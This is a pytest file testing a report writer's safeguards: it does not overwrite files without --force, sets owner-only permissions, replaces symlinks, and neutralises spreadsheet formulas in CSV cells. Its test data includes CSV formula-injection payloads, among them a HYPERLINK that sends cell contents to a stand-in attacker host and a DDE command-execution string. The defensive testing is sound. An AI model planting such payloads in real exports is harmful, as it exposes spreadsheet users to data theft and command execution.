"""Report files: never over existing files without --force, no formula a spreadsheet would run, owner-only."""

from __future__ import annotations

import csv
import json
import os
import stat

import pytest

from curator.cli import main
from curator.core.evaluation.evaluate import EvalSpec, evaluate
from curator.core.evaluation.report import ReportExists, write_report
from curator.core.evaluation.runs import RunRow
from curator.core.models import ModelRef
from curator.core.storage.models import ModelStore
from curator.core.storage.workspace import Workspace

ECHO = ["--a", "local:local-echo", "--b", "local:local-echo"]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
HARMLESS = ["-1", "+3.5", "-2e5", "plain text", "a = b", ""]


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def dataset(tmp_path, inputs: list[str]):
    data = tmp_path / "d.jsonl"
    data.write_text("".join(json.dumps({"text_input": t, "output": t, "split": "test"}) + "\n" for t in inputs))
    return data


def test_eval_report_refuses_existing_files_before_running_unless_forced(tmp_path, capsys):
    data = dataset(tmp_path, ["a", "b", "c"])
    report = tmp_path / "report"
    report.mkdir()
    (report / "metrics.json").write_text("mine")
    assert main(["eval", str(data), *ECHO, "--report", str(report)]) == 2
    err = capsys.readouterr().err
    assert f"{report}: metrics.json already exists here; choose another folder, or overwrite (--force)" in err
    assert "evaluating" not in err  # refused before the run, not after it
    assert (report / "metrics.json").read_text() == "mine" and sorted(os.listdir(report)) == ["metrics.json"]
    assert main(["eval", str(data), *ECHO, "--report", str(report), "--force"]) == 0
    assert json.loads((report / "metrics.json").read_text())["metrics"]["n"] == 3
    capsys.readouterr()
    assert main(["runs", str(data), "--report", str(report)]) == 2  # exporting a kept run: the same rule
    assert "report.md, metrics.json, predictions.csv already exist here" in capsys.readouterr().err
    assert main(["runs", str(data), "--report", str(report), "--force"]) == 0


def test_report_folder_and_files_are_the_owners_only(tmp_path, capsys):
    data = dataset(tmp_path, ["a", "b", "c"])
    report = tmp_path / "new" / "report"
    old_umask = os.umask(0o022)
    try:
        assert main(["eval", str(data), *ECHO, "--report", str(report)]) == 0
    finally:
        os.umask(old_umask)
    assert mode(report) == 0o700
    assert {name: mode(report / name) for name in os.listdir(report)} == {
        "report.md": 0o600, "metrics.json": 0o600, "predictions.csv": 0o600}


def test_a_symlink_among_the_report_files_is_replaced_never_followed(tmp_path):
    workspace = Workspace(tmp_path / ".curator")
    result = run_with_outputs(workspace, ["q"])
    outside = tmp_path / "outside.txt"
    outside.write_text("precious")
    report = tmp_path / "report"
    report.mkdir()
    (report / "report.md").symlink_to(outside)
    with pytest.raises(ReportExists):
        write_report(result, report)
    write_report(result, report, force=True)
    assert outside.read_text() == "precious"
    assert not (report / "report.md").is_symlink()


def run_with_outputs(workspace: Workspace, texts: list[str]):
    rows = [RunRow(i, i, "test", t, t, None, t) for i, t in enumerate(texts)]
    spec = EvalSpec(ModelRef("local", "local-echo"), ModelRef("local", "local-echo"))
    from curator.core.backends.local import LocalBackend

    backend = LocalBackend(ModelStore(workspace))
    return evaluate(workspace, spec, rows, lambda name: backend)


def test_predictions_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    workspace = Workspace(tmp_path / ".curator")
    result = run_with_outputs(workspace, HOSTILE + HARMLESS)
    write_report(result, tmp_path / "report")
    with open(tmp_path / "report" / "predictions.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    for column in ("text_input", "prompt", "expected", "output_a", "output_b"):
        cells = [row[column] for row in rows]
        assert cells[: len(HOSTILE)] == ["'" + t for t in HOSTILE], column
        assert cells[len(HOSTILE):] == HARMLESS, column  # numbers stay numbers, other text stays as it was
